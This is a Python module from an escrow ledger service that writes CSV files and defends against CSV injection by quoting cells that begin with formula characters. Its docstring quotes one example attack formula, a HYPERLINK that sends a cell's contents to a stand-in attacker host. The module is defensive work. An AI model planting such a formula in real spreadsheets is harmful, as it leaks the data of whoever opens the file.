"""The one CSV writer of the service: every CSV it produces (the escrow statement, the account
ledger of the API and of `escrow ledger`) is written here, safe to open in a spreadsheet.

CSV injection (OWASP, "CSV Injection"): a spreadsheet reads a cell starting with `=`, `+`, `-`
or `@` as a formula, and a leading tab or carriage return can hide such a start; a formula like
`=HYPERLINK("https://evil.example/?"&A1, "Refund")` runs when the file is opened. Cells come
from outside here: a token's `symbol()` is whatever its deployer chose. OWASP's rule is applied
to every cell without exception: one that starts with one of those six characters gets a single
quote in front (`'=HYPERLINK(...)`), which spreadsheets show as text; the csv module quotes
cells holding commas, quotes and line breaks (RFC 4180).

No cell is exempt, numbers included, as OWASP recommends: telling a number the service
formatted from an outside string that looks like one is exactly what this rule must not rely
on. In practice no number cell changes: every number the service writes (times, blocks, log
indexes, ids, amounts in base units and in token units) is unsigned, since it comes from a
uint on chain; a signed number, should a column ever hold one, would read `'-1.5` and a
spreadsheet would show it as text.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence
from typing import TextIO

#: the first characters that make a spreadsheet read a cell as a formula (OWASP)
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(cell: str) -> str:
    """`cell` with a single quote in front when it starts with `=`, `+`, `-`, `@`, a tab or a
    carriage return (OWASP's CSV injection rule); unchanged otherwise."""
    return "'" + cell if cell.startswith(FORMULA_STARTS) else cell


def write_csv(stream: TextIO, header: Sequence[str], rows: Iterable[Sequence[str]]) -> None:
    """The header and the rows as CSV to `stream`: RFC 4180 line ends (CRLF), quoting where a
    cell needs it, every cell `neutralise`d."""
    writer = csv.writer(stream, lineterminator="\r\n")
    writer.writerow([neutralise(c) for c in header])
    writer.writerows([neutralise(c) for c in row] for row in rows)


def csv_text(header: Sequence[str], rows: Iterable[Sequence[str]]) -> str:
    """`write_csv` into a string."""
    out = io.StringIO()
    write_csv(out, header, rows)
    return out.getvalue()
